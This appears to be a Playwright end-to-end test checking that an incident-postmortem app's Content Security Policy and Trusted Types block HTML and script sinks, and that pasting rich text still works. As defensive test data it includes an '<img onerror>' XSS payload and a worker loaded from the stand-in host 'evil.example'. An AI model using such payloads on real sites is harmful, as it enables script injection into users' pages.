import { expect, test } from './fixtures';
import { LibraryPage } from './pages/library-page';
import { PostmortemPage } from './pages/postmortem-page';

/**
 * The production CSP as the browser enforces it (the web build carries the same policy as the
 * desktop's app:// header): Trusted Types refuse script sinks, yet the app's own uses work.
 */
test('Trusted Types refuse HTML and script sinks while pasting rich text into the editor still works', async ({ page, network }) => {
  // Every violation the page reports: the app's own work must cause none (a library probing
  // `Function('')`, say, is refused too but fills the console with reports).
  await page.addInitScript(() => {
    const seen: string[] = [];
    (window as { cspViolations?: string[] }).cspViolations = seen;
    document.addEventListener('securitypolicyviolation', (e) => seen.push(`${e.violatedDirective} ${e.sourceFile}:${e.lineNumber} ${e.sample}`));
  });
  const violations = () => page.evaluate(() => [...((window as { cspViolations?: string[] }).cspViolations ?? [])]);
  const library = new LibraryPage(page);
  await library.goto();
  expect(await violations()).toEqual([]);
  const csp = await page.locator('meta[http-equiv="Content-Security-Policy"]').getAttribute('content');
  expect(csp).toContain("require-trusted-types-for 'script'");
  expect(csp).toContain("worker-src 'self';");
  expect(csp).toContain("connect-src 'self';");

  const sinks = await page.evaluate(() => {
    const attempt = (fn: () => unknown) => {
      try {
        fn();
        return 'allowed';
      } catch (error) {
        return (error as Error).name;
      }
    };
    const div = document.createElement('div');
    return {
      innerHTML: attempt(() => (div.innerHTML = '<img src=x onerror="window.pwned=1">')),
      insertAdjacentHTML: attempt(() => document.body.insertAdjacentHTML('beforeend', '<b>x</b>')),
      scriptText: attempt(() => (document.createElement('script').text = 'window.pwned=1')),
      foreignWorker: attempt(() => new Worker('https://evil.example/w.js')),
      domParser: new DOMParser().parseFromString('<b>inert</b>', 'text/html').body.textContent,
    };
  });
  expect(sinks).toEqual({ innerHTML: 'TypeError', insertAdjacentHTML: 'TypeError', scriptText: 'TypeError', foreignWorker: 'TypeError', domParser: 'inert' });
  const refusedOnPurpose = (await violations()).length;

  await library.createIncident({ title: 'Paste check', severity: 'SEV3', timeZone: 'UTC', started: '2024-06-12T14:00', resolved: '2024-06-12T16:00' });
  const pm = new PostmortemPage(page);
  await pm.open();
  await pm.createDraft('Incident review');
  // The pasted <img onerror> below is refused by the CSP as well: it is the hostile input.
  expect((await violations()).slice(refusedOnPurpose)).toEqual([]);
  await pm.editor.locator('p').first().click();
  await pm.editor.evaluate((editor) => {
    const data = new DataTransfer();
    data.setData('text/html', '<p>Pasted <strong>bold</strong> words<img src=x onerror="window.pwned=1"></p>');
    data.setData('text/plain', 'Pasted bold words');
    editor.dispatchEvent(new ClipboardEvent('paste', { clipboardData: data, bubbles: true, cancelable: true }));
  });
  await expect(pm.editor.locator('strong', { hasText: 'bold' })).toBeVisible();
  expect(await page.evaluate(() => (window as { pwned?: number }).pwned)).toBeUndefined();
  expect(network.external).toEqual([]);
});
